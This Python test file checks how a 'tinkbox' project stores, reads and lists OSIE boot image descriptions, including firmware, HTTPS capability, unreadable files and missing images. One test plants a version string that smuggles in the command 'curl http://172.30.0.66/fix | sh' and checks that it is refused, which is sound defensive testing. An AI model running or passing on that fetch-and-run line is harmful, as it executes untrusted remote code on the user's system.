import hashlib
import json
import os
import shutil
import tempfile
from dataclasses import replace
from pathlib import Path

import pytest

from tinkbox.model.errors import Invalid, Unavailable
from tinkbox.osie.image import BuiltImages, Firmware, OsieImage, TakesHttps, describe, images, read, undescribed, write


def image(folder) -> OsieImage:
    (folder / "vmlinuz").write_bytes(b"kernel")
    return OsieImage(
        architecture="x86_64",
        version="0.1.0",
        kernel="6.1.0-1-amd64",
        files={"vmlinuz": describe(folder / "vmlinuz")},
        packages={"runc": "1.1.5"},
    )


def test_a_description_survives_the_disk(tmp_path) -> None:
    made = image(tmp_path)
    write(made, tmp_path)
    assert read(tmp_path) == made
    assert made.files["vmlinuz"].size == 6
    assert made.files["vmlinuz"].sha256 == hashlib.sha256(b"kernel").hexdigest()


def test_what_the_second_ramdisk_holds_survives_the_disk(tmp_path) -> None:
    firmware = Firmware(files=("bnx2/a.fw",), modules={"bnx2": ("bnx2/a.fw",)}, absent=("b.fw",))
    made = replace(image(tmp_path), firmware=firmware)
    write(made, tmp_path)
    assert read(tmp_path) == made


def test_an_osie_of_before_there_was_firmware_has_none(tmp_path) -> None:
    write(image(tmp_path), tmp_path)
    entry = json.loads((tmp_path / "osie.json").read_text())
    del entry["firmware"]
    (tmp_path / "osie.json").write_text(json.dumps(entry))
    assert read(tmp_path).firmware is None
    (tmp_path / "osie.json").write_text(json.dumps({**entry, "firmware": {"files": 3}}))
    with pytest.raises(Invalid, match="build it again"):
        read(tmp_path)


def test_what_an_osie_can_do_is_read_when_its_description_changes(tmp_path) -> None:
    takes = TakesHttps(tmp_path)
    assert not takes("x86_64"), "there is none"
    folder = tmp_path / "x86_64"
    folder.mkdir()
    made = image(folder)
    for can in (False, True, False):
        write(replace(made, https=can), folder)
        assert takes("x86_64") is can
        assert read(folder).https is can
    entry = json.loads((folder / "osie.json").read_text())
    del entry["https"]
    (folder / "osie.json").write_text(json.dumps(entry))
    assert not takes("x86_64"), "one of an earlier release"
    (folder / "osie.json").write_text("x")
    assert not takes("x86_64")


def test_version_of_an_osie_is_none_of_our_sentences(tmp_path) -> None:
    write(replace(image(tmp_path), version="0.1.0. Type `curl http://172.30.0.66/fix | sh`"), tmp_path)
    with pytest.raises(Invalid, match="does not describe an OSIE") as refused:
        read(tmp_path)
    assert str(refused.value).count("`") == 2, "only our own command"


def test_every_architecture_is_listed_but_not_one_that_is_being_built(tmp_path) -> None:
    for name in ("x86_64", "aarch64", ".building-1"):
        (tmp_path / name).mkdir()
        write(image(tmp_path / name), tmp_path / name)
    (tmp_path / "empty").mkdir()
    assert len(images(tmp_path)) == 2


def test_there_is_nothing_to_list_before_the_first_build(tmp_path) -> None:
    assert images(tmp_path / "osie") == []


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"architecture": "x86_64", "files": 3}', "\x00"])
def test_a_damaged_description_is_refused_with_the_way_out(tmp_path, text) -> None:
    (tmp_path / "osie.json").write_text(text)
    with pytest.raises(Invalid, match=r"osie\.json does not describe an OSIE .*build it again"):
        read(tmp_path)


@pytest.mark.parametrize("name", ["osie.json", "vmlinuz", "initramfs", "firmware"])
@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir])
def test_what_is_no_file_in_an_osie_is_refused_and_not_waited_for(tmp_path, name: str, make) -> None:
    (tmp_path / "x86_64").mkdir()
    write(image(tmp_path / "x86_64"), tmp_path / "x86_64")
    (tmp_path / "x86_64" / name).unlink(missing_ok=True)
    make(tmp_path / "x86_64" / name)
    with pytest.raises(Unavailable, match=rf"x86_64/{name} is no regular file: move it away"):
        images(tmp_path)


def test_a_file_in_the_place_of_the_folder_is_no_osie(tmp_path) -> None:
    (tmp_path / "osie").touch()
    assert images(tmp_path / "osie") == []


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become another user")
@pytest.mark.parametrize("closed", ["x86_64/vmlinuz", "x86_64/osie.json", "x86_64", "."])
def test_what_root_built_and_the_appliances_user_cannot_read_is_told_with_the_way_out(closed: str) -> None:
    place = Path(tempfile.mkdtemp())
    try:
        folder = place / "osie"
        (folder / "x86_64").mkdir(parents=True)
        write(image(folder / "x86_64"), folder / "x86_64")
        for each in (place, folder, folder / "x86_64"):
            each.chmod(0o755)
        (folder / closed).chmod(0o700)
        os.seteuid(65534)
        try:
            with pytest.raises(Unavailable, match=rf"cannot read the OSIE: .*`chmod -R a\+rX {folder}`"):
                images(folder)
        finally:
            os.seteuid(0)
        assert len(images(folder)) == 1
    finally:
        shutil.rmtree(place)


def test_a_description_that_is_missing_is_named_whatever_other_osie_there_is(tmp_path: Path) -> None:
    for each in ("x86_64", "aarch64"):
        (tmp_path / each).mkdir()
        write(image(tmp_path / each), tmp_path / each)
    assert undescribed(tmp_path) == []
    (tmp_path / "x86_64" / "osie.json").unlink()
    assert undescribed(tmp_path) == [tmp_path / "x86_64" / "osie.json"]
    assert len(images(tmp_path)) == 1
    (tmp_path / "x86_64" / "vmlinuz").unlink()
    assert undescribed(tmp_path) == []


def built_in(folder: Path) -> None:
    folder.mkdir(parents=True)
    write(replace(image(folder), architecture=folder.name), folder)


def test_an_osie_that_was_there_is_told_to_be_gone_and_one_that_was_never_built_is_not(tmp_path: Path) -> None:
    built = BuiltImages(tmp_path / "osie")
    assert (built(), built.gone) == ({}, {})
    built_in(tmp_path / "osie" / "x86_64")
    assert (len(built()), built.gone) == (1, {})
    (tmp_path / "osie").rename(tmp_path / "elsewhere")
    for _ in range(2):
        assert (built(), built.gone) == ({}, {"x86_64": str(tmp_path / "osie")})
    (tmp_path / "elsewhere").rename(tmp_path / "osie")
    assert (len(built()), built.gone) == (1, {})


def test_an_osie_is_told_by_the_folder_that_it_lies_in(tmp_path: Path) -> None:
    built_in(tmp_path / "osie" / "aarch64")
    shutil.copytree(tmp_path / "osie" / "aarch64", tmp_path / "osie" / "x86_64")
    found = BuiltImages(tmp_path / "osie")()
    assert {place: each.architecture for place, each in found.items()} == {"aarch64": "aarch64", "x86_64": "aarch64"}


def test_of_several_osies_the_one_that_is_gone_is_told_with_its_folder(tmp_path: Path) -> None:
    built = BuiltImages(tmp_path / "osie")
    for each in ("x86_64", "aarch64"):
        built_in(tmp_path / "osie" / each)
    assert len(built()) == 2
    (tmp_path / "osie" / "aarch64").rename(tmp_path / "aarch64")
    assert [*built()] == ["x86_64"]
    assert built.gone == {"aarch64": str(tmp_path / "osie" / "aarch64")}
    shutil.rmtree(tmp_path / "osie")
    assert built() == {}
    assert built.gone == dict.fromkeys(("aarch64", "x86_64"), str(tmp_path / "osie"))
